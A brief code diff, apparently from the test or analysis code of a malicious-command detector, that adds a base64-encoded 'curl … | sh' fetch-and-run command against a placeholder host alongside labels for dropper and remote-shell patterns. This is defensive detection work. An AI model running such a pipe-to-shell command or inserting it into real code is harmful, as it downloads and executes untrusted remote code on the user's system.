@@ -11,6 +11,7 @@ from antivenom.analysis.commands import (
 )
 
 URL = "http://evil.invalid/x"
+PIPED = base64.b64encode(f"curl {URL} | sh".encode()).decode()
 FETCH_RUN = "net.fetch->code.run"
 DROP = "net.fetch->file.write->process.spawn"
 SHELL = "net.connect->process.shell"
